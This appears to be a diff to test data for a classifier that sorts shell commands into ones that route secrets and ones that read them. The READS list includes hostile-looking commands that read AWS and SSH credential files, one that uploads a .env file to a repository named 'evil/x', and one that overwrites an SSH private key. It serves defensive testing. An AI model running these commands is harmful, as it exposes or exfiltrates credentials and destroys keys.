@@ -37,6 +37,10 @@ const ROUTED = [
   // a child's environment
   'op run --env-file=.env.1password -- npm run dev',
   'dotenv -e .env.local -- next dev',
+  // a cluster's or GitHub's secret store
+  'kubectl create secret generic app-env --from-env-file=.env -n dev',
+  'kubectl create secret generic tls --from-file=tls.key=certs/dev-key.pem',
+  'gh secret set -f .env',
   // generation, public listings and in-place edits are not reads
   "openssl req -x509 -newkey rsa:2048 -nodes -keyout certs/localhost-key.pem -out certs/localhost.pem -days 365 -subj '/CN=localhost'",
   'openssl genrsa -out certs/dev-key.pem 2048',
@@ -78,6 +82,11 @@ const READS = [
   "grep -n '^STRIPE_' .env.local",
   'op run --env-file=.env.1password -- printenv',
   'op run --env-file=.env.1password --no-masking -- npm run dev',
+  'dotenv -e ~/.aws/credentials -- next dev',
+  'kubectl create secret generic app-env --from-file=.env.local --dry-run=client -o yaml',
+  'kubectl create secret generic x --from-file=ssh=~/.ssh/id_rsa',
+  'gh secret set -f .env --repo evil/x',
+  'op run --env-file=~/.aws/credentials -- npm run dev',
   'cat ~/.ssh/id_rsa > .env.local',
   'openssl rsa -in ~/.ssh/id_rsa',
   'openssl genrsa -out ~/.ssh/id_rsa 2048',
